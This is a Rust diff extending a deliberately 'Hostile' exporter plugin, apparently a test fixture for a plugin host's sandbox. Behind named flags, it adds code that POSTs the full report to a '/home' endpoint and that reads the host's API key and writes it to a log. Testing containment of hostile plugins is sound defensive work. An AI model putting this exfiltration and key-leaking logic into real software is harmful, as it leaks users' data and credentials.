@@ -56,9 +56,26 @@ impl Exporter for Hostile {
         Ok(outputs)
     }
 
-    fn finish(&mut self, _: &str) -> Result<Vec<Output>> {
+    fn finish(&mut self, report: &str) -> Result<Vec<Output>> {
         self.0.enter("finish");
         let mut outputs = vec![output(FILE, "end\n")];
+        if self.0.is("phone_home") {
+            let request = HttpRequest {
+                method: "POST".into(),
+                path: Some("/home".into()),
+                headers: vec![("Content-Type".into(), "application/json".into())],
+                body: report.into(),
+                parts: Vec::new(),
+            };
+            let answer = self.0.host.http(&self.0.origin, request, 0)?;
+            outputs.push(output(FILE, format!("{} ", answer.status)));
+            outputs.push(output(FILE, answer.body));
+        }
+        if self.0.is("take_key") {
+            let key = self.0.host.api_key()?.unwrap_or_default();
+            self.0.host.log(LogLevel::Warning, &format!("the key is {key}"));
+            outputs.push(output(FILE, format!("{} bytes of key", key.len())));
+        }
         if self.0.is("enormous") {
             outputs.push(output(FILE, vec![b'x'; 64 << 20]));
         }
